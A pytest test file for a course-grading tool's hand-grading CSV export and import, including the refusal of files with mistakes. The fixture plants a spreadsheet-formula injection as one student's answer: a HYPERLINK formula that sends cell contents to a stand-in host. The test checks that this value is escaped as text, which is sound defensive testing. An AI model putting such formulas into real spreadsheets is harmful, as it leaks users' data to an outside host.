"""Hand grading from files: a class's written answers out to CSV, a team's scores back, and a wrong file refused whole.

The compatibility course's class (alice, bob, carol, and dave, whose written answer starts
like a spreadsheet formula) is graded by ``course autograde``; ``course hand-grading export``
writes what needs a person, in two parts for two teaching assistants; their files come back
with ``course hand-grading import``. A file with mistakes (an unknown learner and cell, a
score over the points possible, one that is no number, a test that is graded automatically,
one cell graded twice) is refused with every mistake named, and the gradebook is unchanged.
"""

from __future__ import annotations

import csv
import shutil
from pathlib import Path

import nbformat
import pytest

from grading.autograde import autograde
from grading.cli import main
from grading.collect import collect
from grading.coursedir import Course, CourseError
from grading.export import export
from grading.handgrade import COLUMNS, export_hand_grading, import_hand_grading
from grading.release import release
from tests.fixtures.grading import compat_students as students

pytestmark = pytest.mark.slow_grading  # one grading run of the compatibility course: `make grading-test`

A = students.ASSIGNMENT
FORMULA = '=HYPERLINK("http://example.invalid/?"&A1, "open me")'


def _gradebook(course: Course) -> dict[tuple, object]:
    """Every grade and comment of the class, as nbgrader's gradebook holds them."""
    found: dict[tuple, object] = {}
    with course.gradebook() as gb:
        for sub in gb.find_assignment(A).submissions:
            for nb in sub.notebooks:
                for grade in nb.grades:
                    key = (sub.student.id, nb.name, grade.cell.name)
                    found[(*key, "manual")] = grade.manual_score
                    found[(*key, "needs")] = grade.needs_manual_grade
                for comment in nb.comments:
                    found[(sub.student.id, nb.name, comment.cell.name, "comment")] = comment.manual_comment
    return found


@pytest.fixture(scope="module")
def course(tmp_path_factory):
    tmp = tmp_path_factory.mktemp("handgrade")
    course = Course(tmp / "course")
    shutil.copytree(students.COURSE, course.root)
    release(course, duedate=students.DUE)
    inbox = tmp / "inbox"
    students.build(course.folder("release", A), inbox)
    shutil.copytree(inbox / "alice", inbox / "dave")
    essay = nbformat.read(inbox / "dave" / A / "essay.ipynb", as_version=4)
    next(c for c in essay.cells if c.metadata.get("nbgrader", {}).get("grade_id") == "q1_answer").source = FORMULA
    nbformat.write(essay, inbox / "dave" / A / "essay.ipynb")
    collect(course, inbox)
    summary = autograde(course, jobs=2, progress=False)
    assert not summary.errors, summary.line()
    return course


def _rows(paths: list[Path]) -> list[dict[str, str]]:
    rows = []
    for path in paths:
        with path.open(newline="", encoding="utf-8") as handle:
            reader = csv.DictReader(handle)
            assert reader.fieldnames == COLUMNS, path
            rows += list(reader)
    return rows


def _write(path: Path, rows: list[dict[str, str]]) -> Path:
    with path.open("w", newline="", encoding="utf-8") as handle:
        out = csv.DictWriter(handle, fieldnames=COLUMNS)
        out.writeheader()
        out.writerows(rows)
    return path


def test_the_export_holds_every_cell_waiting_for_a_person_with_the_learners_text(course):
    waiting = {k[:3] for k, v in _gradebook(course).items() if k[3] == "needs" and v}
    assert waiting, "the compatibility class has written answers to grade"
    (path,) = export_hand_grading(course)
    rows = _rows([path])
    assert {(r["student"], r["notebook"], r["cell"]) for r in rows} == waiting
    by_key = {(r["student"], r["cell"]): r for r in rows}
    alice_q1 = by_key[("alice", "q1_answer")]
    assert alice_q1["answer"] == students.WRITTEN[("alice", "q1_answer")]
    assert alice_q1["kind"] == "written answer" and alice_q1["points possible"] == "2.0"
    assert "YOUR ANSWER HERE" not in alice_q1["instructor's version"] and alice_q1["instructor's version"]
    assert by_key[("alice", "sort_task")]["kind"] == "task"
    assert by_key[("alice", "describe")]["kind"] == "code answer"
    assert by_key[("dave", "q1_answer")]["answer"] == "'" + FORMULA, "a formula-like answer is written as text"


def test_two_assistants_split_the_class_without_splitting_a_learner(course, capsys):
    assert main(["--course", str(course.root), "hand-grading", "export", "--parts", "2"]) == 0
    paths = [Path(line.removeprefix("wrote ")) for line in capsys.readouterr().out.splitlines()]
    assert [p.name for p in paths] == [f"{A}-part-1-of-2.csv", f"{A}-part-2-of-2.csv"]
    parts = [{r["student"] for r in _rows([p])} for p in paths]
    assert parts[0] and parts[1] and not parts[0] & parts[1]
    (whole,) = export_hand_grading(course)
    assert sorted(map(str, _rows(paths))) == sorted(map(str, _rows([whole])))


def test_a_file_with_mistakes_is_refused_whole_naming_each(course, tmp_path):
    before = _gradebook(course)
    (path,) = export_hand_grading(course)
    rows = _rows([path])
    good = dict(rows[0], score="1", comment="fine")
    mistakes = [
        dict(rows[0], student="mallory", score="1"),
        dict(rows[0], cell="no_such_cell", score="1"),
        dict(rows[1], score="99"),
        dict(rows[1], score="lots"),
        dict(rows[0], cell="mean_column_tests", notebook="problems", score="2", comment=""),
        dict(rows[0], score="0", comment="changed my mind"),  # rows[0] graded twice, otherwise
    ]
    bad = _write(tmp_path / "bad.csv", [good, *mistakes])
    with pytest.raises(CourseError) as refused:
        import_hand_grading(course, [bad])
    message = str(refused.value)
    assert message.startswith("nothing imported: 6 mistakes to fix first")
    for expected in ("no student 'mallory'", "no graded cell 'no_such_cell'", "outside 0 to", "'lots' is not a number",
                     "is graded automatically", "graded otherwise at bad.csv, line 2"):  # fmt: skip
        assert expected in message, expected
    assert _gradebook(course) == before, "a refused file changed the gradebook"


def test_the_assistants_scores_and_comments_come_back_as_the_formgrader_writes_them(course, tmp_path):
    paths = export_hand_grading(course, parts=2)
    filled = []
    for index, path in enumerate(paths):
        rows = _rows([path])
        for row in rows:
            row["score"] = row["points possible"]
            row["comment"] = f"graded by assistant {index + 1}"
        filled.append(_write(tmp_path / path.name, rows))
    assert main(["--course", str(course.root), "hand-grading", "import", *map(str, filled)]) == 0
    after = _gradebook(course)
    graded = [k for k, v in after.items() if k[3] == "manual" and v is not None]
    assert len(graded) > 0
    assert not any(v for k, v in after.items() if k[3] == "needs"), "every hand-graded cell is cleared"
    assert after[("alice", "essay", "q1_answer", "comment")] in ("graded by assistant 1", "graded by assistant 2")
    assert after[("alice", "essay", "q1_answer", "manual")] == 2.0
    again = export_hand_grading(course, everything=True)
    assert {r["score"] for r in _rows(again)} != {""}, "--all shows the scores given"
    with pytest.raises(CourseError, match="no cell waiting"):
        export_hand_grading(course)
    exported = export(course)
    assert any(p.name == "grades.csv" for p in exported.files)
